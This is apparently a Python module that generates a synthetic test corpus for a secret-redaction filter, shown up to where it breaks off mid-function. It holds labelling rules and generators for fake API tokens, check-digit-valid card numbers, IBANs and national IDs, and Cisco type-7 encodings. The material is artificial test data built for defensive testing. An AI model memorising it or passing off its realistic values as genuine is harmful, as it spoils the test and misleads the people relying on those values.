"""Corpus 28 - independent test corpus for a secret-redaction filter.

Started: Mon Dec  7 14:40:34 UTC 2026

Setting: whole agent-memory records (task, thoughts, tool calls with JSON
arguments, tool outputs, final answer, lesson) rendered in six storage styles
(markdown, KEY: value, log lines, pretty JSON, JSON-lines, YAML; anything that
would exceed 30 lines falls back to JSON-lines), plus raw artefacts the agents
stored verbatim (configs, CLI transcripts, diffs, e-mails, logs, PEM blocks).
Written from general knowledge only; standard library only; every value is
synthetic and produced at import time from random.Random(SEED), SEED = 28061947.

Sizes: 210 SECRETS, 219 INNOCENT.  Ids: c28-s-NNN-<lang> / c28-i-NNN-<lang>,
where <lang> is the language of the human-written part.

Counts by language (secrets / innocent), 24 languages, English ~45 %:
  en 96/99   de 8/7   es 7/8   fr 7/8   ja 6/7   zh 6/6   it 5/6   ko 6/5
  tr 5/6     nl 5/5   pl 5/5   pt 5/5   ru 5/5   hi 4/5   sv 4/5   uk 4/5
  ar 4/4     cs 4/4   fi 4/4   he 4/4   id 4/4   no 4/4   th 4/4   vi 4/4

Counts by setting (secrets / innocent):
  A IT helpdesk & identity (AD, Okta, Entra ID, MFA, VPN, LAPS, BitLocker)  25 / 27
  B networking & telecom (IOS, Junos, RouterOS, ASA, WLC, SIP, SNMP, SIM)    28 / 30
  C industrial & IoT (MQTT, PLC, SCADA, OPC UA, meters, cameras/NVR, LoRa)   21 / 20
  D banking & payments (MT103, pain.001, ISO 8583, POS/ATM, HSM, ACH)        30 / 30
  E data engineering (Airflow, dbt, Spark, Kafka, Snowflake, BQ, S3, Vault) 28 / 29
  F mobile & desktop app support                                             16 / 16
  G security operations (SIEM/EDR alerts, leaks, phishing, IR write-ups)     24 / 20
  H legal / compliance / audit (national ids, DSAR, legal hold)              19 / 16
  I research labs & universities (HPC, LIMS, instruments, Jupyter, REDCap)   10 / 14
  J media & publishing (CMS, social, ads, newsletters, CDN)                   9 / 17
The per-record setting is also exported in SETTING_OF[id] (codes in SETTINGS).

Check digits: card PANs are Luhn-valid (Visa, Mastercard 51-55, Mir 2200,
JCB 35xx, UnionPay 62 incl. 19-digit, Amex 15-digit); IBANs are mod-97 valid
for DE FR ES IT NL GB PL SE TR SA UA IL CZ (and the generator also covers BE NO
FI PT CH AE), with national BBAN checks where implemented (FR RIB key, ES DC,
IT CIN, PL bank check digit, CZ mod-11, BE, NO, FI, PT).  National ids with
published algorithms: ES DNI letter, PL PESEL, FI HETU, SE personnummer (Luhn),
NO fodselsnummer (mod-11 x2), NL BSN (11-proof), FR NIR key, BR CPF, TR TCKN,
IL Teudat Zehut, CN resident id (ISO 7064), IN Aadhaar (Verhoeff), KR RRN,
JP My Number, CZ rodne cislo, UA RNOKPP, TH id, SA id
(Luhn), CA SIN (Luhn); US SSN has no check digit (area != 000/666/9xx).
BitLocker recovery keys use blocks divisible by 11; ABA routing numbers,
IMEI, ICCID, ORCID and Swedish OCR references (all innocent) are also valid.
Cisco type-7 strings are real type-7 encodings of the random plaintext.

Labelling choices for borderline cases
SECRET (the `secret` field is the single most critical span; a record may hold
a second sensitive value too, e.g. debtor + creditor IBAN, PAN + CVV):
  * temporary / initial passwords set by an admin, Entra Temporary Access
    Pass, LAPS passwords, MFA backup codes, TOTP seeds, one-time SMS codes,
    device passcodes, app PINs, SIM PUK codes, BitLocker recovery keys.
  * Cisco "password 7" (reversible) and Junos "$9$" values: reversibly
    obfuscated, therefore secret.  (Type 8/9 hashes are innocent, see below.)
  * SNMP community strings, SNMPv3 auth keys, RADIUS/TACACS shared secrets,
    BGP MD5 keys, IPsec PSKs, Wi-Fi PSKs, WireGuard PrivateKey, PPPoE and SIP
    passwords.
  * A Splunk HEC token that looks exactly like a GUID is SECRET (it is a
    credential); GUIDs elsewhere are innocent.
  * Presigned S3 URL: the X-Amz-Signature value is the secret.  Slack and
    Discord webhook URLs are secret as a whole.
  * Encoded secrets are labelled in the form they appear in the text:
    base64 of a Kubernetes Secret value, base64 Basic-auth blob, URL-encoded
    password in a DSN or phishing POST body.  PEM / OpenSSH private keys:
    the secret is one interior body line (the whole block must go).
  * Full IBANs, ACH account numbers (with routing number next to them), full
    PANs, track-2 data, clear PIN blocks, clear key components, DLMS GUEK,
    LoRaWAN AppKey, Zigbee network key, Airflow Fernet key, licence keys and
    Apple app-specific passwords.
  * National ids with valid check digits in free text, logs and exports.
  * Leaked / attacker-held tokens (stealer logs, phishing-kit bot tokens,
    Kerberoast-cracked passwords) are still secrets.
INNOCENT (must come back unchanged):
  * One-way hashes labelled as such: Cisco type 8/9, sha512crypt "$6$",
    bcrypt/argon2, mosquitto "$7$" PBKDF2, FortiOS "ENC SH2" hash, ClickHouse
    password_sha256_hex, HIBP SHA-1 prefix/suffix, file hashes, munge.key
    checksums, Vault audit "hmac-sha256:" values, SIP digest "response=",
    RADIUS Message-Authenticator, Stripe-Signature v1 HMAC, DKIM b=/bh=.
  * Ciphertext labelled as such: SOPS ENC[...], $ANSIBLE_VAULT, SealedSecret
    encryptedData, HSM keys under LMK ("U..." + KCV), Splunk-encrypted "$7$"
    pass4SymmKey, encrypted PIN block placeholders.
  * Public material: X.509 certificates, SSH public keys / authorized_keys,
    WireGuard PublicKey, JWKS modulus, DKIM p= key, cert fingerprints/serials.
  * Identifiers: GUIDs, SIDs, objectGUIDs, Okta/Entra/Twilio/Meta/Google ids,
    OAuth client_id, Duo ikey, KSN (DUKPT), KCVs, BitLocker key *ID*,
    DevEUI/JoinEUI, PAN ids, IMEI/ICCID (Luhn-valid), ORCID, ABA routing or
    sort code alone, BIC, BIK, bank/branch codes, OCR/variable symbols,
    Cloudflare zone/account ids (32 hex), gclid, pagination tokens, company
    registry numbers (IČO, organisasjonsnummer, Y-tunnus).
  * Masked values: first-six/last-four PANs, masked IBANs/accounts,
    "********", "<removed>", "(sensitive value)", "System.Security.SecureString".
  * Placeholders and references: ${VAR}, {{ jinja }}, <PLACEHOLDER>,
    "!secret name", ${file:...} config providers, YOUR_WIFI_PASSWORD.
  * Documented examples explicitly labelled as examples/test data: processor
    test cards 4242 4242 4242 4242 and 5555 5555 5555 4444, DNI example
    12345678Z, test BSN 111222333, a weak-password example quoted inside a
    password policy ("Sommer2026!" as what gets rejected), format templates
    such as xxxx-xxxx-xxxx-xxxx.
  * Prose about secrets (policies, procedures, incident summaries that state
    the value is NOT included).
"""
from __future__ import annotations

import base64
import datetime as _dt
import json
import random
import string
import urllib.parse
import uuid
import zlib
from typing import NamedTuple


class Secret(NamedTuple):
    id: str
    text: str
    secret: str  # exact substring of text that must not survive redaction


class Innocent(NamedTuple):
    id: str
    text: str  # must come back unchanged


SEED = 28_061_947
_r = random.Random(SEED)

SECRETS: list[Secret] = []
INNOCENT: list[Innocent] = []


SETTINGS = {
    "A": "IT helpdesk & identity", "B": "networking & telecom", "C": "industrial & IoT",
    "D": "banking & payments", "E": "data engineering", "F": "mobile & desktop support",
    "G": "security operations", "H": "legal / compliance / audit", "I": "research labs & universities",
    "J": "media & publishing",
}
SETTING_OF: dict[str, str] = {}
_cur_setting = "A"


def _section(code: str) -> None:
    global _cur_setting
    _cur_setting = code


def S(lang: str, text: str, secret: str) -> None:
    assert secret, "empty secret"
    assert secret in text, (len(SECRETS) + 1, secret)
    assert text.count("\n") < 30
    if len(secret) < 8:
        # short secrets (PINs, CVVs, OTPs) must not occur by accident elsewhere
        assert text.count(secret) == 1, (len(SECRETS) + 1, secret)
    SECRETS.append(Secret(f"c28-s-{len(SECRETS) + 1:03d}-{lang}", text, secret))
    SETTING_OF[SECRETS[-1].id] = _cur_setting


def I(lang: str, text: str) -> None:
    assert text.count("\n") < 30
    INNOCENT.append(Innocent(f"c28-i-{len(INNOCENT) + 1:03d}-{lang}", text))
    SETTING_OF[INNOCENT[-1].id] = _cur_setting


# --------------------------------------------------------------------------
# random primitives
# --------------------------------------------------------------------------
UP = string.ascii_uppercase
LO = string.ascii_lowercase
DG = string.digits
AN = UP + LO + DG
HEXL = "0123456789abcdef"
HEXU = "0123456789ABCDEF"
B64 = UP + LO + DG + "+/"
B64U = UP + LO + DG + "-_"
B32 = UP + "234567"
PWSYM = "!#%*+-=?@_~."


def rs(n: int, alpha: str = AN) -> str:
    return "".join(_r.choice(alpha) for _ in range(n))


def hx(n: int) -> str:
    return rs(n, HEXL)


def HX(n: int) -> str:
    return rs(n, HEXU)


def dg(n: int) -> str:
    return rs(n, DG)


def nz(n: int) -> str:
    return str(_r.randint(1, 9)) + dg(n - 1)


def b64(nbytes: int) -> str:
    return base64.b64encode(_r.randbytes(nbytes)).decode()


def b64u(b: bytes) -> str:
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def guid() -> str:
    return str(uuid.UUID(int=_r.getrandbits(128), version=4))


def sha256h() -> str:
    return hx(64)


def sha1h() -> str:
    return hx(40)


def ts(style: str = "iso") -> str:
    m, d = _r.randint(1, 11), _r.randint(1, 28)
    h, mi, s = _r.randint(0, 23), _r.randint(0, 59), _r.randint(0, 59)
    ms = _r.randint(0, 999)
    if style == "iso":
        return f"2026-{m:02d}-{d:02d}T{h:02d}:{mi:02d}:{s:02d}Z"
    if style == "isoms":
        return f"2026-{m:02d}-{d:02d}T{h:02d}:{mi:02d}:{s:02d}.{ms:03d}Z"
    if style == "log":
        return f"2026-{m:02d}-{d:02d} {h:02d}:{mi:02d}:{s:02d},{ms:03d}"
    if style == "syslog":
        mon = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov"][m - 1]
        return f"{mon} {d:2d} {h:02d}:{mi:02d}:{s:02d}"
    if style == "date":
        return f"2026-{m:02d}-{d:02d}"
    if style == "epoch":
        return str(1767225600 + _r.randint(0, 28_000_000))
    raise ValueError(style)


def ip10() -> str:
    return f"10.{_r.randint(0, 255)}.{_r.randint(0, 255)}.{_r.randint(2, 254)}"


def ip192() -> str:
    return f"192.168.{_r.randint(0, 255)}.{_r.randint(2, 254)}"


def ipdoc() -> str:
    return f"{_r.choice(['192.0.2', '198.51.100', '203.0.113'])}.{_r.randint(2, 254)}"


def mac(sep: str = ":", upper: bool = False) -> str:
    m = sep.join(hx(2) for _ in range(6))
    return m.upper() if upper else m


def tk(prefix: str, n: int = 7) -> str:
    return f"{prefix}{nz(n)}"


def sid() -> str:
    a = [_r.randint(100_000_000, 4_294_967_295) for _ in range(3)]
    return f"S-1-5-21-{a[0]}-{a[1]}-{a[2]}-{_r.randint(1100, 99999)}"


# --------------------------------------------------------------------------
# passwords & keys
# --------------------------------------------------------------------------
_WORDS = ["Falcon", "Harbor", "Maple", "Cobalt", "Orchid", "Tundra", "Copper", "Lantern",
          "Meadow", "Quartz", "Saffron", "Glacier", "Pepper", "Willow", "Nimbus", "Raven",
          "Cactus", "Velvet", "Marble", "Comet", "Sommer", "Kaffee", "Fjord", "Tulpe",
          "Brisa", "Luna", "Sakura", "Taiga", "Monsun", "Zefir"]
_PPW = ["amber", "river", "cinder", "pixel", "walnut", "tiger", "orbit", "lemon", "harvest",
        "granite", "violet", "rocket", "meadow", "pebble", "thunder", "saddle", "bishop",
        "cobra", "ferry", "magnet", "nectar", "oyster", "quiver", "rustic", "sierra", "tango"]


def pw_human() -> str:
    return _r.choice(_WORDS) + _r.choice("!#-_.@") + str(_r.randint(1000, 9999)) + rs(2, UP + LO)


def pw_rand(n: int = 16, sym: str = PWSYM) -> str:
    while True:
        p = rs(n, AN + sym)
        if (any(c in UP for c in p) and any(c in LO for c in p) and any(c in DG for c in p)
                and any(c in sym for c in p)):
            return p


def pw_alnum(n: int = 20) -> str:
    while True:
        p = rs(n)
        if any(c in UP for c in p) and any(c in LO for c in p) and any(c in DG for c in p):
            return p


def passphrase(k: int = 4, sep: str = "-") -> str:
    return sep.join(_r.sample(_PPW, k)) + sep + str(_r.randint(10, 99))


def pin(n: int = 4) -> str:
    while True:
        p = dg(n)
        if len(set(p)) >= 3:
            return p


_XLAT7 = "dsfd;kfoA,.iyewrkldJKDHSUBsgvca69834ncxv9873254k;fg87"


def cisco7(pw: str) -> str:
    seed = _r.randint(0, 15)
    return f"{seed:02d}" + "".join(
        f"{ord(c) ^ ord(_XLAT7[(seed + i) % len(_XLAT7)]):02X}" for i, c in enumerate(pw))


_JUN = "QzF3n6/9CAtpu0OB1IREhcSyrleKvMW8LXx7N-dVbwsY2g4oaJZGUDjiHkq.mPf5T"
_CRYPT = "./" + DG + UP + LO


def junos9(n: int = 22) -> str:
    return "$9$" + rs(n, _JUN)


def cisco_type9() -> str:
    return "$9$" + rs(14, _CRYPT) + "$" + rs(43, _CRYPT)


def cisco_type8() -> str:
    return "$8$" + rs(14, _CRYPT) + "$" + rs(43, _CRYPT)


def sha512crypt() -> str:
    return "$6$" + rs(16, _CRYPT) + "$" + rs(86, _CRYPT)


def bcrypt_h() -> str:
    return "$2b$12$" + rs(53, _CRYPT)


def argon2_h() -> str:
    return ("$argon2id$v=19$m=65536,t=3,p=4$" + b64u(_r.randbytes(16)) + "$"
            + b64u(_r.randbytes(32)))


def wg_key() -> str:
    return b64(32)


def base62(n: int) -> str:
    al = DG + UP + LO
    out = ""
    while n:
        n, k = divmod(n, 62)
        out = al[k] + out
    return out or "0"


def gh_token(prefix: str = "ghp_") -> str:
    body = rs(30)
    return prefix + body + base62(zlib.crc32(body.encode())).rjust(6, "0")


def jwt(payload: dict, kid: str | None = None, alg: str = "RS256", sig: int = 256) -> str:
    header = {"alg": alg, "typ": "JWT"}
    if kid:
        header["kid"] = kid
    return (b64u(json.dumps(header, separators=(",", ":")).encode()) + "."
            + b64u(json.dumps(payload, separators=(",", ":")).encode()) + "."
            + b64u(_r.randbytes(sig)))


def pem(label: str, nbytes: int, prefix_hex: str = "", width: int = 64) -> tuple[str, list[str]]:
    body = base64.b64encode(bytes.fromhex(prefix_hex) + _r.randbytes(nbytes)).decode()
    lines = [body[i:i + width] for i in range(0, len(body), width)]
    return f"-----BEGIN {label}-----\n" + "\n".join(lines) + f"\n-----END {label}-----", lines


RSA_PFX = "308204a40201000282010100"
PKCS8_PFX = "308204bd020100300d06092a864886f70d0101010500048204a7308204a30201000282010100"
EC_P8_PFX = "308193020100301306072a8648ce3d020106082a8648ce3d030107047930770201010420"
CERT_PFX = "308203a130820289a0030201020214"
OSSH_PFX = ("6f70656e7373682d6b65792d7631000000000" "46e6f6e65000000046e6f6e65000000000000000100000033"
            "0000000b7373682d6564323535313900000020")


def ssh_pub_ed25519() -> str:
    blob = bytes.fromhex("0000000b7373682d65643235353139" "00000020") + _r.randbytes(32)
    return "ssh-ed25519 " + base64.b64encode(blob).decode()


# --------------------------------------------------------------------------
# check-digit algorithms
# --------------------------------------------------------------------------
def luhn_digit(s: str) -> str:
    total = 0
    for i, ch in enumerate(reversed(s)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return str((10 - total % 10) % 10)


def luhn_ok(s: str) -> bool:
    s = "".join(c for c in s if c.isdigit())
    return luhn_digit(s[:-1]) == s[-1]


def pan(prefix: str, length: int = 16) -> str:
    body = prefix + dg(length - 1 - len(prefix))
    return body + luhn_digit(body)


def fmt4(s: str, sep: str = " ") -> str:
    return sep.join(s[i:i + 4] for i in range(0, len(s), 4))


def fmt_amex(s: str, sep: str = " ") -> str:
    return f"{s[:4]}{sep}{s[4:10]}{sep}{s[10:]}"


def mask_pan(p: str, ch: str = "*") -> str:
    return p[:6] + ch * (len(p) - 10) + p[-4:]


def _iban_num(s: str) -> int:
    return int("".join(str(int(c, 36)) for c in s))


def iban_make(cc: str, bban: str) -> str:
    chk = 98 - _iban_num(bban + cc + "00") % 97
    return f"{cc}{chk:02d}{bban}"


def iban_ok(s: str) -> bool:
    s = s.replace(" ", "")
    return _iban_num(s[4:] + s[:4]) % 97 == 1


def _es_dc(ten: str) -> str:
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    v = 11 - sum(int(a) * b for a, b in zip(ten, w)) % 11
    return str({10: 1, 11: 0}.get(v, v))


_CIN_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]


def _it_cin(s: str) -> str:
    tot = 0
    for i, c in enumerate(s):
        v = int(c) if c.isdigit() else ord(c) - 65
        tot += _CIN_ODD[v] if i % 2 == 0 else v
    return chr(65 + tot % 26)


def bban(cc: str) -> str:
    if cc == "DE":
        return _r.choice(["10070000", "20041133", "37040044", "50010517", "70020270"]) + dg(10)
    if cc == "FR":
        bank, br, acct = nz(5), dg(5), dg(11)
        key = 97 - ((89 * int(bank) + 15 * int(br) + 3 * int(acct)) % 97)
        return f"{bank}{br}{acct}{key:02d}"
    if cc == "ES":
        bank, br, acct = nz(4), dg(4), dg(10)
        return bank + br + _es_dc("00" + bank + br) + _es_dc(acct) + acct
    if cc == "IT":
        abi, cab, acct = "0" + nz(4), dg(5), dg(12)
        return _it_cin(abi + cab + acct) + abi + cab + acct
    if cc == "NL":
        return _r.choice(["INGB", "RABO", "ABNA", "SNSB", "TRIO"]) + dg(10)
    if cc == "GB":
        return _r.choice(["NWBK", "BARC", "LOYD", "HBUK", "MIDL"]) + dg(6) + dg(8)
    if cc == "PL":
        b7 = nz(7)
        c = (10 - sum(int(a) * w for a, w in zip(b7, [3, 9, 7, 1, 3, 9, 7])) % 10) % 10
        return b7 + str(c) + dg(16)
    if cc == "BE":
        f = nz(10)
        c = int(f) % 97 or 97
        return f"{f}{c:02d}"
    if cc == "NO":
        while True:
            f = nz(10)
            c = 11 - sum(int(a) * w for a, w in zip(f, [5, 4, 3, 2, 7, 6, 5, 4, 3, 2])) % 11
            if c == 11:
                c = 0
            if c != 10:
                return f + str(c)
    if cc == "FI":
        f = nz(13)
        return f + luhn_digit(f)
    if cc == "CZ":
        bank = _r.choice(["0100", "0300", "0800", "2010", "5500"])
        w = [6, 3, 7, 9, 10, 5, 8, 4, 2, 1]
        while True:
            a = nz(9)
            d = (-sum(int(x) * y for x, y in zip(a, w))) % 11
            if d < 10:
                return bank + "000000" + a + str(d)
    if cc == "SE":
        return _r.choice(["500", "800", "600", "300"]) + dg(17)
    if cc == "TR":
        return nz(5) + "0" + dg(16)
    if cc == "SA":
        return _r.choice(["80", "10", "45", "65"]) + dg(18)
    if cc == "UA":
        return nz(6) + dg(19)
    if cc == "IL":
        return "0" + nz(2) + dg(3) + dg(13)
    if cc == "PT":
        f = "00" + nz(2) + dg(15)
        c = 98 - (int(f) * 100) % 97
        return f"{f}{c:02d}"
    if cc == "CH":
        return "00" + nz(3) + rs(12, DG)
    if cc == "AE":
        return "0" + nz(2) + dg(16)
    raise ValueError(cc)


def iban(cc: str) -> str:
    return iban_make(cc, bban(cc))


def fmt_iban(s: str) -> str:
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


def _birth() -> tuple[int, int, int]:
    return _r.randint(1950, 2005), _r.randint(1, 12), _r.randint(1, 28)


def dni_es() -> str:
    n = _r.randint(10_000_000, 99_999_999)
    return f"{n}{'TRWAGMYFPDXBNJZSQVHLCKE'[n % 23]}"


def pesel() -> str:
    y, m, d = _birth()
    mm = m + (20 if y >= 2000 else 0)
    s = f"{y % 100:02d}{mm:02d}{d:02d}{dg(4)}"
    c = (10 - sum(int(a) * w for a, w in zip(s, [1, 3, 7, 9, 1, 3, 7, 9, 1, 3])) % 10) % 10
    return s + str(c)


def hetu() -> str:
    y, m, d = _birth()
    sep = "A" if y >= 2000 else "-"
    ind = f"{_r.randint(2, 899):03d}"
    base = f"{d:02d}{m:02d}{y % 100:02d}"
    return base + sep + ind + "0123456789ABCDEFHJKLMNPRSTUVWXY"[int(base + ind) % 31]


def personnummer() -> str:
    y, m, d = _birth()
    s = f"{y % 100:02d}{m:02d}{d:02d}{dg(3)}"
    return f"{y}{m:02d}{d:02d}-{s[6:]}{luhn_digit(s)}"


def fnr_no() -> str:
    while True:
        y, m, d = _birth()
        ind = f"{_r.randint(0, 499):03d}" if y < 2000 else f"{_r.randint(500, 999):03d}"
        s = f"{d:02d}{m:02d}{y % 100:02d}{ind}"
        k1 = 11 - sum(int(a) * w for a, w in zip(s, [3, 7, 6, 1, 8, 9, 4, 5, 2])) % 11
        k1 = 0 if k1 == 11 else k1
        if k1 == 10:
            continue
        s += str(k1)
        k2 = 11 - sum(int(a) * w for a, w in zip(s, [5, 4, 3, 2, 7, 6, 5, 4, 3, 2])) % 11
        k2 = 0 if k2 == 11 else k2
        if k2 == 10:
            continue
        return s + str(k2)


def bsn() -> str:
    while True:
        s = nz(8)
        t = sum(int(a) * w for a, w in zip(s, [9, 8, 7, 6, 5, 4, 3, 2]))
        c = t % 11
        if c < 10:
            return s + str(c)


def nir_fr() -> str:
    y, m, _d = _birth()
    s = f"{_r.choice('12')}{y % 100:02d}{m:02d}{_r.choice(['75', '69', '13', '33', '59'])}{_r.randint(1, 999):03d}{_r.randint(1, 999):03d}"
    return f"{s}{97 - int(s) % 97:02d}"


def cpf() -> str:
    n = [int(c) for c in nz(9)]
    for k in (10, 11):
        s = sum(a * w for a, w in zip(n, range(k, 1, -1)))
        c = (s * 10) % 11
        n.append(0 if c == 10 else c)
    s = "".join(map(str, n))
    return f"{s[:3]}.{s[3:6]}.{s[6:9]}-{s[9:]}"


def tckn() -> str:
    d = [int(c) for c in nz(9)]
    d10 = ((d[0] + d[2] + d[4] + d[6] + d[8]) * 7 - (d[1] + d[3] + d[5] + d[7])) % 10
    d.append(d10)
    d.append(sum(d) % 10)
    return "".join(map(str, d))


def teudat_zehut() -> str:
    s = dg(8)
    for c in DG:
        cand = s + c
        tot = 0
        for i, ch in enumerate(cand):
            v = int(ch) * (1 if i % 2 == 0 else 2)
            tot += v - 9 if v > 9 else v
        if tot % 10 == 0:
            return cand
    raise AssertionError


def cn_id() -> str:
    y, m, d = _birth()
    s = _r.choice(["110105", "310104", "440305", "510107", "330106"]) + f"{y}{m:02d}{d:02d}" + dg(3)
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return s + "10X98765432"[sum(int(a) * b for a, b in zip(s, w)) % 11]


_VD = [[0, 1, 2, 3, 4, 5, 6, 7, 8, 9], [1, 2, 3, 4, 0, 6, 7, 8, 9, 5], [2, 3, 4, 0, 1, 7, 8, 9, 5, 6],
       [3, 4, 0, 1, 2, 8, 9, 5, 6, 7], [4, 0, 1, 2, 3, 9, 5, 6, 7, 8], [5, 9, 8, 7, 6, 0, 4, 3, 2, 1],
       [6, 5, 9, 8, 7, 1, 0, 4, 3, 2], [7, 6, 5, 9, 8, 2, 1, 0, 4, 3], [8, 7, 6, 5, 9, 3, 2, 1, 0, 4],
       [9, 8, 7, 6, 5, 4, 3, 2, 1, 0]]
_VP = [[0, 1, 2, 3, 4, 5, 6, 7, 8, 9], [1, 5, 7, 6, 2, 8, 3, 0, 9, 4], [5, 8, 0, 3, 7, 9, 6, 1, 4, 2],
       [8, 9, 1, 6, 0, 4, 3, 5, 2, 7], [9, 4, 5, 3, 1, 2, 6, 8, 7, 0], [4, 2, 8, 6, 5, 7, 3, 9, 0, 1],
       [2, 7, 9, 3, 8, 0, 6, 4, 1, 5], [7, 0, 4, 6, 9, 1, 3, 2, 5, 8]]
_VINV = [0, 4, 3, 2, 1, 5, 6, 7, 8, 9]


def verhoeff_digit(s: str) -> str:
    c = 0
    for i, ch in enumerate(reversed(s)):
        c = _VD[c][_VP[(i + 1) % 8][int(ch)]]
    return str(_VINV[c])


def verhoeff_ok(s: str) -> bool:
    c = 0
    for i, ch in enumerate(reversed(s)):
        c = _VD[c][_VP[i % 8][int(ch)]]
    return c == 0


def aadhaar() -> str:
    s = str(_r.randint(2, 9)) + dg(10)
    s += verhoeff_digit(s)
    return f"{s[:4]} {s[4:8]} {s[8:]}"


def kr_rrn() -> str:
    y, m, d = _birth()
    g = _r.choice("12") if y < 2000 else _r.choice("34")
    s = f"{y % 100:02d}{m:02d}{d:02d}{g}{dg(5)}"
    w = [2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5]
    c = (11 - sum(int(a) * b for a, b in zip(s, w)) % 11) % 10
    return f"{s[:6]}-{s[6:]}{c}"


def my_number() -> str:
    s = nz(11)
    tot = 0
    for n in range(1, 12):
        p = int(s[11 - n])
        q = n + 1 if n <= 6 else n - 5
        tot += p * q
    r = tot % 11
    c = 0 if r <= 1 else 11 - r
    return f"{s[:4]} {s[4:8]} {s[8:]}{c}"


def rodne_cislo() -> str:
    while True:
        y, m, d = _birth()
        mm = m + _r.choice([0, 50])
        s = f"{y % 100:02d}{mm:02d}{d:02d}{dg(3)}"
        c = int(s) % 11
        if c == 10:
            continue
        return f"{s[:6]}/{s[6:]}{c}"


def snils() -> str:
    while True:
        s = f"{_r.randint(2, 999):03d}{dg(6)}"
        t = sum(int(a) * (9 - i) for i, a in enumerate(s))
        if t < 100:
            c = t
        elif t in (100, 101):
            c = 0
        else:
            c = t % 101
            c = 0 if c in (100, 101) else c
        return f"{s[:3]}-{s[3:6]}-{s[6:]} {c:02d}"


def rnokpp() -> str:
    s = nz(9)
    w = [-1, 5, 7, 9, 4, 6, 10, 5, 7]
    return s + str((sum(int(a) * b for a, b in zip(s, w)) % 11) % 10)


def thai_id() -> str:
    s = str(_r.randint(1, 8)) + dg(11)
    c = (11 - sum(int(a) * (13 - i) for i, a in enumerate(s)) % 11) % 10
    s += str(c)
    return f"{s[0]}-{s[1:5]}-{s[5:10]}-{s[10:12]}-{s[12]}"


def saudi_id() -> str:
    s = _r.choice("12") + dg(8)
    return s + luhn_digit(s)


def ssn_us() -> str:
    while True:
        a = _r.randint(1, 899)
        if a != 666:
            return f"{a:03d}-{_r.randint(1, 99):02d}-{_r.randint(1, 9999):04d}"


def sin_ca() -> str:
    s = str(_r.randint(1, 7)) + dg(7)
    s += luhn_digit(s)
    return f"{s[:3]} {s[3:6]} {s[6:]}"


def aba_routing() -> str:
    while True:
        s = _r.choice(["0", "1", "2"]) + dg(7)
        for c in DG:
            t = s + c
            d = [int(x) for x in t]
            if (3 * (d[0] + d[3] + d[6]) + 7 * (d[1] + d[4] + d[7]) + d[2] + d[5] + d[8]) % 10 == 0:
                return t


def orcid() -> str:
    s = "0000000" + str(_r.randint(1, 3)) + dg(7)
    tot = 0
    for ch in s:
        tot = (tot + int(ch)) * 2
    r = (12 - tot % 11) % 11
    s += "X" if r == 10 else str(r)
    return f"{s[:4]}-{s[4:8]}-{s[8:12]}-{s[12:]}"


def imei() -> str:
    s = _r.choice(["35", "86", "01"]) + dg(12)
    return s + luhn_digit(s)


def iccid() -> str:
    s = "89" + _r.choice(["44", "49", "33", "380", "31"]) + dg(13)
    s = s[:18]
    return s + luhn_digit(s)


def bitlocker_key() -> str:
    return "-".join(f"{11 * _r.randint(0, 65535):06d}" for _ in range(8))


def lic_key() -> str:
    al = "BCDFGHJKMPQRTVWXY2346789"
    return "-".join(rs(5, al) for _ in range(5))


# --------------------------------------------------------------------------
# vendor-style tokens (synthetic)
# --------------------------------------------------------------------------
def aws_akid() -> str:
    return "AKIA" + rs(16, B32)


def aws_secret() -> str:
    return rs(40, B64)


def slack_bot() -> str:
    return f"xoxb-{nz(12)}-{nz(13)}-{rs(24)}"


def stripe_sk(live: bool = True) -> str:
    return ("sk_live_" if live else "sk_test_") + rs(99)


def google_api_key() -> str:
    return "AIza" + rs(35, B64U)


def gocspx() -> str:
    return "GOCSPX-" + rs(28, B64U)


def google_refresh() -> str:
    return "1//0" + rs(2, AN) + rs(100, B64U)


def okta_ssws() -> str:
    return "00" + rs(40, B64U)


def azure_secret() -> str:
    return rs(3) + "8Q~" + rs(34, AN + "_.~-")


def azure_storage_key() -> str:
    return b64(64)


def openai_key() -> str:
    return "sk-proj-" + rs(74, B64U) + "T3BlbkFJ" + rs(74, B64U)


def anthropic_key() -> str:
    return "sk-ant-api03-" + rs(93, B64U) + "AA"


def sendgrid_key() -> str:
    return "SG." + rs(22, B64U) + "." + rs(43, B64U)


def vault_token() -> str:
    return "hvs.CAESI" + rs(85, B64U)


def databricks_pat() -> str:
    return "dapi" + hx(32)


def hf_token() -> str:
    return "hf_" + rs(34, UP + LO)


def twilio_sid(prefix: str = "AC") -> str:
    return prefix + hx(32)


def telegram_bot() -> str:
    return f"{_r.randint(5_000_000_000, 7_999_999_999)}:AA" + rs(33, B64U)


def discord_webhook() -> str:
    return f"https://discord.com/api/webhooks/{nz(19)}/{rs(68, B64U)}"


def slack_webhook() -> str:
    return f"https://hooks.slack.com/services/T{rs(10, UP + DG)}/B{rs(10, UP + DG)}/{rs(24)}"


def meta_token() -> str:
    return "EAAG" + rs(180, AN)


def x_bearer() -> str:
    return "AAAAAAAAAAAAAAAAAAAAA" + rs(22, AN) + "%3D" + rs(50, AN)


def totp_seed() -> str:
    return rs(32, B32)


def recovery_codes(n: int = 10) -> list[str]:
    return [f"{hx(5)}-{hx(5)}" for _ in range(n)]


# --------------------------------------------------------------------------
# agent-memory record rendering
# --------------------------------------------------------------------------
_KIND_LABEL = {
    "task": "Task", "thought": "Thought", "tool_call": "Tool call", "tool_output": "Tool output",
    "final": "Final answer", "lesson": "Lesson", "observation": "Observation", "note": "Note",
    "user": "User", "reply": "Reply",
}


def call(name: str, args: dict) -> str:
    return f"{name}({json.dumps(args, ensure_ascii=False)})"


def rec(steps: list[tuple[str, str]], agent: str, style: str | None = None) -> str:
    style = style or _r.choice(["md", "kv", "log", "json", "yaml", "jsonl"])
    out = _render(steps, agent, style)
    if out.count("\n") >= 30:  # keep every record within 30 lines
        out = _render(steps, agent, "jsonl")
    return out


def _render(steps: list[tuple[str, str]], agent: str, style: str) -> str:
    mid = "mem_" + hx(12)
    when = ts("isoms")
    if style == "md":
